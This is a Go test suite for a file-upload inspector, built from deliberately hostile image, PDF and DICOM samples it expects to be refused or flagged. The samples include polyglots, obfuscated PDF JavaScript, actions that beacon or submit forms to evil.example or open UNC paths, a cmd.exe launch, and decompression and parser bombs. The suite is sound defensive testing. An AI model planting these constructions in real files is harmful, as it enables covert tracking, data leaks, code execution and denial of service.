package inspect

import (
	"bytes"
	"image"
	"slices"
	"strings"
	"testing"
)

// sample is a file that someone may send, and what must become of it.
type sample struct {
	name, called, as string // what it is; its name and media type as sent
	bytes            []byte
	refused          string // a code; "-" when any refusal will do
	findings         []string
}

// pictures are JPEG and PNG, and what pretends to be.
func pictures() []sample {
	j, p := aJPEG(), aPNG()
	return []sample{
		{name: "jpeg", called: "photo.jpg", as: "image/jpeg", bytes: j},
		{name: "jpeg without a type", called: "photo.JPEG", bytes: j},
		{name: "jpeg with a place", called: "photo.jpg", as: "image/jpeg", bytes: after(j, exif(1, false))},
		{name: "jpeg and a script behind it", called: "photo.jpg", as: "image/jpeg", bytes: append(bytes.Clone(j), "<script>alert(1)</script>"...)},
		{name: "jpeg and an archive behind it", called: "photo.jpg", as: "image/jpeg", bytes: append(bytes.Clone(j), aZIP(len(j))...)},
		{name: "jpeg with a PHP comment", called: "photo.jpg", as: "image/jpeg", bytes: after(j, append([]byte{0xff, 0xfe, 0, 20}, "<?php evil(); ?>  "...))},
		{name: "jpeg cut in half", called: "photo.jpg", bytes: j[:len(j)/2], refused: Unreadable},
		{name: "jpeg of three bytes", called: "photo.jpg", bytes: j[:3], refused: Unreadable},
		{name: "jpeg of 65,535 squared", called: "photo.jpg", bytes: hugeJPEG(), refused: Pixels},
		{name: "jpeg that is noise", called: "photo.jpg", bytes: append([]byte("\xff\xd8\xff\xe0"), noise(5000)...), refused: Unreadable},
		{name: "jpeg with EXIF that loops", called: "photo.jpg", bytes: after(j, []byte("\xff\xe1\x00\x12Exif\x00\x00II*\x00\x08\x00\x00\x00\xff\xff"))},
		{name: "png", called: "page.png", as: "image/png", bytes: p},
		{name: "png with a text", called: "page.png", as: "image/png", bytes: append(append(bytes.Clone(p[:33]), chunk("tEXt", []byte("Comment\x00INVENTEDPLACE"))...), p[33:]...)},
		{name: "png and a script behind it", called: "page.png", bytes: append(bytes.Clone(p), "<script>"...)},
		{name: "png of 50,000 squared", called: "page.png", bytes: bigPNG(50_000, 50_000, 8, 2, 1000), refused: Pixels},
		{name: "png of 2,147,483,647 squared", called: "page.png", bytes: bigPNG(1<<31-1, 1<<31-1, 8, 2, 10), refused: "-"},
		{name: "png of 0 by 0", called: "page.png", bytes: bigPNG(0, 0, 8, 2, 10), refused: Unreadable},
		{name: "png of 6,000 squared in 16 bits", called: "page.png", bytes: bigPNG(6000, 6000, 16, 6, 1000), refused: Heavy},
		{name: "png that swells without end", called: "page.png", bytes: bigPNG(10, 10, 8, 2, 30<<20), refused: Unreadable},
		{name: "png with wrong sums", called: "page.png", bytes: bytes.Replace(p, []byte("IHDR"), []byte("IHDX"), 1), refused: Unreadable},
		{name: "png cut", called: "page.png", bytes: p[:len(p)-20], refused: Unreadable},
		{name: "png of noise", called: "page.png", bytes: append([]byte("\x89PNG\r\n\x1a\n"), noise(5000)...), refused: Unreadable},
		{name: "gif", called: "photo.gif", as: "image/gif", bytes: []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00"), refused: Unknown},
		{name: "gif that is a script", called: "photo.jpg", as: "image/jpeg", bytes: []byte("GIF89a=1/*\x00\x00*/;alert(1)"), refused: Unknown},
		{name: "bmp that is a script", called: "photo.png", as: "image/png", bytes: []byte("BM/*\x00\x00*/=1;alert(1)"), refused: Unknown},
		{name: "svg called png", called: "page.png", as: "image/png", bytes: []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), refused: Unknown},
		{name: "svg", called: "page.svg", as: "image/svg+xml", bytes: []byte(`<?xml version="1.0"?><svg/>`), refused: Unknown},
		{name: "html called jpg", called: "photo.jpg", as: "image/jpeg", bytes: []byte("<!doctype html><script>"), refused: Unknown},
		{name: "webp", called: "photo.webp", as: "image/webp", bytes: []byte("RIFF\x10\x00\x00\x00WEBPVP8 "), refused: Unknown},
		{name: "tiff", called: "photo.tif", as: "image/tiff", bytes: []byte("II*\x00\x08\x00\x00\x00"), refused: Unknown},
		{name: "heic", called: "IMG_0001.HEIC", as: "image/heic", bytes: []byte("\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic"), refused: Heic},
		{name: "heic called jpg", called: "IMG_0001.jpg", as: "image/jpeg", bytes: []byte("\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heic"), refused: Heic},
		{name: "avif", called: "a.avif", bytes: []byte("\x00\x00\x00\x18ftypavif\x00\x00\x00\x00"), refused: Heic},
		{name: "png called jpg", called: "photo.jpg", as: "image/jpeg", bytes: p, refused: Mismatch},
		{name: "jpeg called pdf", called: "letter.pdf", bytes: j, refused: Mismatch},
		{name: "jpeg declared html", called: "photo.jpg", as: "text/html", bytes: j, refused: Mismatch},
		{name: "jpeg called exe", called: "photo.jpg.exe", as: "image/jpeg", bytes: j, refused: Mismatch},
		{name: "jpeg without ending", called: "photo", as: "image/jpeg", bytes: j, refused: Mismatch},
	}
}

// papers are PDF, and what pretends to be.
func papers() []sample {
	whole := aPDF("")
	script := "<</S/JavaScript/JS(app.alert(1))>>"
	hidden := "<</OpenAction<</S/#4aavaScript/#4aS(app.alert(1))>>>>"
	behind := func(more string) []byte { // the catalog, then what its table does not know
		return pdfFrom([]string{"<</Type/Catalog/Pages 2 0 R>>\nendobj\n" + more, onePage[0], onePage[1]}, "")
	}
	linked := "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://phare.example)>>>>]>>"
	return append([]sample{
		{name: "pdf with a link on its first page", called: "letter.pdf", bytes: pdfFrom([]string{"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>", onePage[0], linked}, "")},
		{name: "pdf with a packed link", called: "letter.pdf", bytes: packedPDF("<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>", onePage[0], linked)},
		{name: "opens another file", called: "letter.pdf", bytes: aPDF(`/OpenAction<</S/GoToR/F(\\\\evil.example\\x.pdf)/D[0/Fit]>>`), findings: []string{Launch}},
		{name: "opens another file with its page", called: "letter.pdf", bytes: aPDF("", `<</AA<</O<</F(\\\\evil.example\\x)/D[0/Fit]/S/GoToR>>>>>>`), findings: []string{Launch}},
		{name: "calls an address on opening", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/URI/URI(http://evil.example/beacon)>>"), findings: []string{Launch}},
		{name: "calls an address that stands elsewhere", called: "letter.pdf", bytes: aPDF("/OpenAction 3 0 R", "<</S/URI/URI(http://evil.example)>>"), findings: []string{Launch}},
		{name: "calls a packed address", called: "letter.pdf", bytes: packedPDF("<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", onePage[0], onePage[1], "<</S/URI/URI(http://evil.example)>>"), findings: []string{Launch}},
		{name: "calls an address in the end", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/GoTo/D[5 0 R/Fit]/Next[3 0 R]>>", "<</S/Named/N/NextPage/Next 4 0 R>>", "<</S/U#52I/URI(http://evil.example)>>"), findings: []string{Launch}},
		{name: "calls an address from a field", called: "letter.pdf", bytes: aPDF("", "<</Kids[<</A#41<</E<</S/URI/URI(http://evil.example)>>>>>>]>>"), findings: []string{Launch}},
		{name: "plays a film", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/Movie/T(x)>>"), findings: []string{Launch}},
		{name: "plays a sound", called: "letter.pdf", bytes: aPDF("", "<</Type/Annot/Subtype/Sound>>"), findings: []string{Launch}},
		{name: "data in another file", called: "letter.pdf", bytes: aPDF("", stream(`/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F(\\\\evil.example\\x)`, nil)), findings: []string{Launch}},
		{name: "a key that stands twice", called: "letter.pdf", bytes: aPDF("/OpenAction 3 0 R", "<</S/#4aavaScript/S/GoTo/#4aS(app.alert(1))/#4aS null>>"), findings: []string{Script, Unclear}},
		{name: "an older object", called: "letter.pdf", bytes: behind("1 0 obj\n" + hidden), findings: []string{Script, Unclear}},
		{name: "an older object behind an open bracket", called: "letter.pdf", bytes: behind("(\n1 0 obj\n" + hidden), findings: []string{Script, Unclear}},
		{name: "an older object that ends in words", called: "letter.pdf", bytes: behind("1\x000\r\nobj<</X(endobj)/Y(\\)endobj)" + hidden[2:]), findings: []string{Script, Unclear}},
		{name: "an older address", called: "letter.pdf", bytes: behind("1 0 obj\n<</OpenAction 9 0 R>>\nendobj\n9 0 obj<</S/URI/URI(http://evil.example)>>"), findings: []string{Launch, Unclear}},
		{name: "an older packed object", called: "letter.pdf", bytes: behind("9 0 obj\n" + stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", deflate([]byte("8 0 "+hidden)))), findings: []string{Script, Unclear}},
		{name: "an object behind the end", called: "letter.pdf", bytes: append(bytes.Clone(whole), "1 0 obj\n"+hidden+"\nendobj\n%%EOF\n"...), findings: []string{Archive, Script, Unclear}},
		{name: "words behind the last table", called: "letter.pdf", bytes: append(bytes.Clone(whole), "hello\n%%EOF\n"...), findings: []string{Archive}},
		{name: "a table that is nowhere", called: "letter.pdf", bytes: append(bytes.Clone(whole), "1 0 obj\n"+hidden+"\nendobj\ntrailer\n<</Size 4/Root 1 0 R>>\nstartxref\n999999\n%%EOF\n"...), refused: "-", findings: []string{Script, Unclear}},
		{name: "objects in one another without end", called: "letter.pdf", bytes: behind(strings.Repeat("1 0 obj(", 20_000)), refused: "-"},
	}, []sample{
		{name: "pdf", called: "letter.pdf", as: "application/pdf", bytes: whole},
		{name: "pdf 1.5", called: "letter.pdf", bytes: packedPDF(append([]string{"<</Type/Catalog/Pages 2 0 R>>"}, onePage...)...)},
		{name: "pdf that opens on a page", called: "letter.pdf", bytes: aPDF("/OpenAction[4 0 R/Fit]", "<</Ignored true>>")},
		{name: "pdf with a link", called: "letter.pdf", bytes: aPDF("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://phare.example)>>>>")},
		{name: "pdf of 200 pages", called: "letter.pdf", bytes: pdfOf(200, "")},
		{name: "pdf of 201 pages", called: "letter.pdf", bytes: pdfOf(201, ""), refused: Pages},
		{name: "script on opening", called: "letter.pdf", bytes: aPDF("/OpenAction 3 0 R", script), findings: []string{Script}},
		{name: "script in the catalog", called: "letter.pdf", bytes: aPDF("/OpenAction" + script), findings: []string{Script}},
		{name: "script by name", called: "letter.pdf", bytes: aPDF("/Names<</JavaScript<</Names[(a) 3 0 R]>>>>", script), findings: []string{Script}},
		{name: "script nobody refers to", called: "letter.pdf", bytes: aPDF("", script), findings: []string{Script}},
		{name: "script in disguise", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/J#61vaScript/#4a#53(app.alert(1))>>"), findings: []string{Script}},
		{name: "script in a page’s event", called: "letter.pdf", bytes: aPDF("/AA<</WC" + script + ">>"), findings: []string{Script}},
		{name: "script packed away", called: "letter.pdf", bytes: packedPDF(append([]string{"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"}, append(slices.Clone(onePage), "<</S/JavaScript/JS(app.alert(1))>>")...)...), findings: []string{Script}},
		{name: "script outside the table", called: "letter.pdf", bytes: bytes.Replace(whole, []byte("xref\n"), []byte("9 0 obj\n"+script+"\nendobj\nxref\n"), 1), refused: "-", findings: []string{Script, Unclear}},
		{name: "rendition", called: "letter.pdf", bytes: aPDF("", "<</S/Rendition/JS(x)>>"), findings: []string{Script}},
		{name: "starts a program", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/Launch/F(cmd.exe)>>"), findings: []string{Launch}},
		{name: "sends its form", called: "letter.pdf", bytes: aPDF("", "<</S/SubmitForm/F(https://evil.example)>>"), findings: []string{Launch}},
		{name: "loads data", called: "letter.pdf", bytes: aPDF("", "<</S/ImportData/F(x)>>"), findings: []string{Launch}},
		{name: "holds a file", called: "letter.pdf", bytes: aPDF("/Names<</EmbeddedFiles<</Names[(a) 3 0 R]>>>>", "<</Type/Filespec/F(a)/EF<</F 4 0 R>>>>", stream("/Type/EmbeddedFile", []byte("MZ"))), findings: []string{Embedded}},
		{name: "holds a pdf", called: "letter.pdf", bytes: aPDF("", stream("/Type/EmbeddedFile", whole)), findings: []string{Embedded, Unclear}},
		{name: "a file pinned on", called: "letter.pdf", bytes: aPDF("", "<</Type/Annot/Subtype/FileAttachment>>"), findings: []string{Embedded}},
		{name: "goes into a held file", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/GoToE>>"), findings: []string{Embedded}},
		{name: "rich media", called: "letter.pdf", bytes: aPDF("", "<</Type/Annot/Subtype/RichMedia>>"), findings: []string{Embedded}},
		{name: "XFA", called: "letter.pdf", bytes: aPDF("/AcroForm<</XFA 3 0 R/Fields[]>>", stream("", []byte("<xdp/>"))), findings: []string{Form}},
		{name: "all at once", called: "letter.pdf", bytes: aPDF("/OpenAction"+script+"/AcroForm<</XFA[]>>", "<</S/Launch>>", stream("/Type/EmbeddedFile", nil)), findings: sorted([]string{Script, Form, Launch, Embedded})},
		{name: "locked", called: "letter.pdf", bytes: pdfFrom([]string{"<</Type/Catalog/Pages 2 0 R>>", onePage[0], onePage[1], "<</Filter/Standard/V 2/R 3/Length 128/P -4/O<" + strings.Repeat("41", 32) + ">/U<" + strings.Repeat("42", 32) + ">>>"},
			"/Encrypt 4 0 R/ID[<"+strings.Repeat("43", 16)+"><"+strings.Repeat("43", 16)+">]"), refused: Encrypted},
		{name: "pdf and an archive behind it", called: "letter.pdf", bytes: append(bytes.Clone(whole), aZIP(len(whole))...), findings: []string{Archive}},
		{name: "pdf with an archive inside", called: "letter.pdf", bytes: zipInside(), findings: []string{Archive}},
		{name: "pdf and a program behind it", called: "letter.pdf", bytes: append(bytes.Clone(whole), "MZ\x90\x00 this program"...), findings: []string{Archive}},
		{name: "archive called pdf", called: "letter.pdf", as: "application/pdf", bytes: aZIP(0), refused: Unknown},
		{name: "bytes before the pdf", called: "letter.pdf", bytes: append([]byte("MZ\x90"), whole...), refused: Unknown},
		{name: "pdf cut", called: "letter.pdf", bytes: whole[:len(whole)/2], refused: Unreadable},
		{name: "pdf of one line", called: "letter.pdf", bytes: []byte("%PDF-1.7"), refused: Unreadable},
		{name: "pdf of noise", called: "letter.pdf", bytes: append([]byte("%PDF-1.7\n"), noise(20_000)...), refused: Unreadable},
		{name: "table that points to itself", called: "letter.pdf", bytes: []byte("%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF"), refused: Unreadable},
		{name: "pages that hold themselves", called: "letter.pdf", bytes: pdfFrom([]string{"<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"}, ""), refused: Unreadable},
		{name: "more pages than it says", called: "letter.pdf", bytes: bytes.Replace(pdfOf(300, ""), []byte("/Count 300"), []byte("/Count 100"), 1), refused: Pages},
		{name: "nested without end", called: "letter.pdf", bytes: aPDF("/X" + strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000)), refused: "-"},
		{name: "a table of a thousand million", called: "letter.pdf", bytes: []byte("%PDF-1.4\nxref\n0 1000000000\n0000000000 65535 f \ntrailer\n<</Size 1000000000/Root 1 0 R>>\nstartxref\n9\n%%EOF"), refused: "-"},
		{name: "objects that swell", called: "letter.pdf", bytes: swelling(), refused: "-"},
		{name: "pdf called jpg", called: "photo.jpg", bytes: whole, refused: Mismatch},
		{name: "pdf declared html", called: "letter.pdf", as: "text/html", bytes: whole, refused: Mismatch},
	}...)
}

// scans are DICOM, programs, and nothing at all.
func scans() []sample {
	scan := aScan("")
	undefinedItem := func(set ...[]byte) []byte {
		b := elementHead(itemTag, "", undefined)
		for _, e := range set {
			b = append(b, e...)
		}
		return append(b, elementHead(itemEnd, "", 0)...)
	}
	seq := func(n uint32, body []byte) []byte { return append(elementHead(0x00081140, "SQ", n), body...) }
	sop := element(0x00081150, "UI", []byte("1.2.3\x00"))
	enclosing := []byte("1.2.840.10008.5.1.4.1.1.104.1")
	said := append(aDICOM("", littleEndian)[:132:132], element(0x00020002, "UI", enclosing)...)
	return []sample{
		{name: "scan", called: "IM0001.dcm", as: "application/dicom", bytes: scan},
		{name: "scan without ending", called: "IM0001", bytes: scan},
		{name: "scan called by a number", called: "1.2.840.113619", bytes: scan},
		{name: "scan that is a program", called: "IM0001.dcm", bytes: aScan("MZ\x90\x00\x03 this program cannot be run in DOS mode")},
		{name: "scan that is an ELF", called: "IM0001.dcm", bytes: aScan("\x7fELF\x02\x01\x01")},
		{name: "scan that is a TIFF", called: "IM0001.dcm", bytes: aScan("II*\x00\x08\x00\x00\x00")},
		{name: "scan that is a pdf", called: "IM0001.dcm", bytes: aScan("%PDF-1.7\n")},
		{name: "sequence by marks", called: "a.dcm", bytes: aDICOM("", littleEndian, seq(undefined, append(undefinedItem(sop), elementHead(seqEnd, "", 0)...)))},
		{name: "sequence by length", called: "a.dcm", bytes: aDICOM("", littleEndian, seq(uint32(8+len(sop)), append(elementHead(itemTag, "", uint32(len(sop))), sop...)))},
		{name: "implicit form", called: "a.dcm", bytes: aDICOM("", implicitLE, append(elementHead(0x00100010, "", 4), "A^B "...))},
		{name: "compressed pixels", called: "a.dcm", bytes: aDICOM("", littleEndian, append(append(append(elementHead(pixelData, "OB", undefined), elementHead(itemTag, "", 4)...), "abcd"...), elementHead(seqEnd, "", 0)...))},
		{name: "scan cut", called: "a.dcm", bytes: scan[:len(scan)-3], refused: Unreadable},
		{name: "scan and a program behind it", called: "a.dcm", bytes: append(bytes.Clone(scan), "MZ\x90\x00\x03\x00\x00\x00"...), refused: Unreadable},
		{name: "an element longer than the file", called: "a.dcm", bytes: aDICOM("", littleEndian, elementHead(pixelData, "OW", 0xfffffff0)), refused: Unreadable},
		{name: "no such representation", called: "a.dcm", bytes: aDICOM("", littleEndian, []byte("\x10\x00\x10\x00ZZ\x04\x00abcd")), refused: Unreadable},
		{name: "no transfer syntax", called: "a.dcm", bytes: append(append(make([]byte, 128), "DICM"...), element(0x00080060, "CS", []byte("MR"))...), refused: Unreadable},
		{name: "no data set", called: "a.dcm", bytes: aDICOM("", littleEndian), refused: Unreadable},
		{name: "deflated", called: "a.dcm", bytes: aDICOM("", deflatedLE, deflated(1<<20)), refused: Unreadable},
		{name: "big-endian", called: "a.dcm", bytes: aDICOM("", explicitBE, []byte("\x00\x08\x00\x60CS\x00\x02MR")), refused: Unreadable},
		{name: "sequences without end", called: "a.dcm", bytes: aDICOM("", littleEndian, bytes.Repeat(append(elementHead(0x00081140, "SQ", undefined), elementHead(itemTag, "", undefined)...), 10_000)), refused: Unreadable},
		{name: "a sequence longer than its own items", called: "a.dcm", bytes: aDICOM("", littleEndian, seq(10, append(elementHead(itemTag, "", uint32(len(sop))), sop...))), refused: Unreadable},
		{name: "group 2 without end", called: "a.dcm", bytes: aDICOM("", littleEndian, elementHead(0x00020102, "OB", 0x7ffffff0)), refused: Unreadable},
		{name: "encloses a pdf, as its head says", called: "a.dcm", bytes: append(said, aScan("")[132:]...), refused: Enclosed},
		{name: "encloses a pdf, as its data say", called: "a.dcm", bytes: aDICOM("", littleEndian, element(0x00080016, "UI", bytes.Clone(enclosing))), refused: Enclosed},
		{name: "encloses a pdf and says nothing", called: "a.dcm", bytes: aDICOM("", implicitLE, append(elementHead(0x00420011, "", 4), "%PDF"...)), refused: Enclosed},
		{name: "a scan that says what it is", called: "a.dcm", bytes: aDICOM("", littleEndian, element(0x00080016, "UI", []byte("1.2.840.10008.5.1.4.1.1.4")))},
		{name: "scan called pdf", called: "a.pdf", bytes: scan, refused: Mismatch},
		{name: "preamble and nothing", called: "a.dcm", bytes: append(make([]byte, 128), "DICM"...), refused: Unreadable},
		{name: "program", called: "a.exe", bytes: []byte("MZ\x90\x00"), refused: Unknown},
		{name: "program called dcm", called: "a.dcm", bytes: []byte("\x7fELF" + strings.Repeat("\x00", 300)), refused: Unknown},
		{name: "Word document", called: "a.docx", bytes: aZIP(0), refused: Unknown},
		{name: "old Word document", called: "a.doc", bytes: []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), refused: Unknown},
		{name: "script", called: "a.js", as: "text/javascript", bytes: []byte("alert(1)"), refused: Unknown},
		{name: "shortcut", called: "a.lnk", bytes: []byte("L\x00\x00\x00\x01\x14\x02\x00"), refused: Unknown},
		{name: "nothing", called: "a.pdf", refused: Empty},
	}
}

// hugeJPEG says in its header that it is as large as one can be.
func hugeJPEG() []byte {
	b := aJPEG()
	at := bytes.Index(b, []byte("\xff\xc0"))
	copy(b[at+5:], "\xff\xff\xff\xff")
	return b
}

func noise(n int) []byte {
	b, x := make([]byte, n), uint32(1)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = byte(x >> 24)
	}
	return b
}

// zipInside is a PDF whose archive's closing record covers the PDF's own end by
// its comment, so that unpackers open it.
func zipInside() []byte {
	z := aZIP(0)
	b := aPDF("", stream("", z))
	at := bytes.LastIndex(b, []byte("PK\x05\x06"))
	n := len(b) - at - 22
	b[at+20], b[at+21] = byte(n), byte(n>>8)
	return b
}

// swelling is a PDF whose objects are 100 MB once unpacked.
func swelling() []byte {
	return bytes.Replace(packedPDF("<</Type/Catalog/Pages 2 0 R/A("+strings.Repeat("A", 100<<20)+")>>", onePage[0], onePage[1]), []byte("%PDF-1.7"), []byte("%PDF-1.5"), 1)
}

// TestHostile sends every sample through name, head and a child, as the site does.
func TestHostile(t *testing.T) {
	withoutRace(t)
	all := slices.Concat(pictures(), papers(), scans())
	hostile := 0
	r := runner(t)
	for _, s := range all {
		if s.refused != "" || s.findings != nil {
			hostile++
		}
		t.Run(s.name, func(t *testing.T) {
			v, kept := look(t, r, s)
			switch {
			case s.refused == "-" && (v.Refused != "" || slices.Equal(v.Findings, s.findings) && s.findings != nil):
			case s.refused == "-" || v.Refused != s.refused || v.Refused == "" && !slices.Equal(v.Findings, s.findings):
				t.Errorf("refused %q, found %q; want %q, %q", v.Refused, v.Findings, s.refused, s.findings)
			}
			if v.Refused == "" {
				harmless(t, v, kept)
			}
		})
	}
	if hostile < 60 {
		t.Errorf("only %d hostile samples", hostile)
	}
	t.Logf("%d samples, %d of them hostile", len(all), hostile)
}

func look(t *testing.T, r *Runner, s sample) (Verdict, []byte) {
	t.Helper()
	kind, why := Sniff(s.bytes[:min(len(s.bytes), HeadSize)])
	if why == "" && !kind.Agrees(s.called, s.as) {
		why = Mismatch
	}
	if why != "" {
		return Verdict{Refused: why}, nil
	}
	var kept bytes.Buffer
	v, err := r.Inspect(t.Context(), Sender{}, kind, bytes.NewReader(s.bytes), &kept)
	if err != nil {
		t.Fatal(err)
	}
	return v, kept.Bytes()
}

// harmless holds what is kept of a file against what must be gone from it.
func harmless(t *testing.T, v Verdict, kept []byte) {
	t.Helper()
	switch v.Kind {
	case JPEG, PNG:
		for _, gone := range []string{"INVENTEDPLACE", "Exif", "<script", "<?php", "PK\x03\x04", "tEXt"} {
			if bytes.Contains(kept, []byte(gone)) {
				t.Errorf("%q is still in the picture", gone)
			}
		}
		if _, _, err := image.DecodeConfig(bytes.NewReader(kept)); err != nil {
			t.Errorf("what is kept is no picture: %v", err)
		}
	case DICOM:
		if len(kept) < 132 || strings.Trim(string(kept[:128]), "\x00") != "" {
			t.Error("the preamble is not empty")
		}
	}
}
